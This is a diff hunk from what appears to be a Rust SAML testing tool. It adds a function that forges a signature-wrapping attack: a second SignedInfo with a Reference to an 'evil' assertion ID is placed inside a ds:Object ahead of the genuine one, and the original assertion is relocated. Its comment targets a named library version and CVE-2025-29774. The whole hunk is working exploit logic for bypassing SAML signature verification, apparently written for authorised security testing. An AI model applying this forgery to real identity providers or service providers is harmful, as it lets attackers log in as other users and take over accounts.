@@ -100,6 +100,40 @@ pub fn multiple_signed_info(f: &Forge) -> Result<Forged, Skip> {
     )
 }
 
+/// As [`multiple_signed_info`], the second SignedInfo inside a `ds:Object` *before* the
+/// genuine one: the genuine SignedInfo stays the Signature's first SignedInfo child (its
+/// value still verifies) while the forged Reference comes first in document order, where an
+/// SP that trusts the first Reference reads it (@boxyhq/saml20 < 1.10.0 on xml-crypto 6.0.0
+/// and its 6.0.1 fork, CVE-2025-29774).
+pub fn multiple_signed_info_first(f: &Forge) -> Result<Forged, Skip> {
+    with_forged_digest(
+        f,
+        &|p| {
+            let sig = p.need_assertion_sig()?;
+            let si = signed_info(sig).ok_or_else(|| Skip::NotApplicable("no SignedInfo".into()))?;
+            let evil = evil_id(p.assertion_id());
+            let second = second_signed_info(p.doc, si, &evil)?;
+            let prefix = qualified_name(p.doc.src, sig)
+                .strip_suffix("Signature")
+                .unwrap_or_default();
+            let id = crate::bytes::attr_value(p.assertion, "ID")
+                .ok_or_else(|| Skip::NotApplicable("the Assertion has no ID".into()))?;
+            Ok(vec![
+                (id, evil),
+                insert(
+                    si.range().start,
+                    format!("<{prefix}Object>{second}</{prefix}Object>"),
+                ),
+                insert(
+                    before_end_tag(p.doc.src, p.root),
+                    format!("<a>{}</a>", p.doc.outer(p.assertion)),
+                ),
+            ])
+        },
+        &|p| evil_id(p.assertion_id()),
+    )
+}
+
 /// A copy of SignedInfo whose Reference points at `#evil`, its digest the placeholder.
 fn second_signed_info(doc: &Doc, si: crate::bytes::Node, evil: &str) -> Result<String, Skip> {
     let reference = si
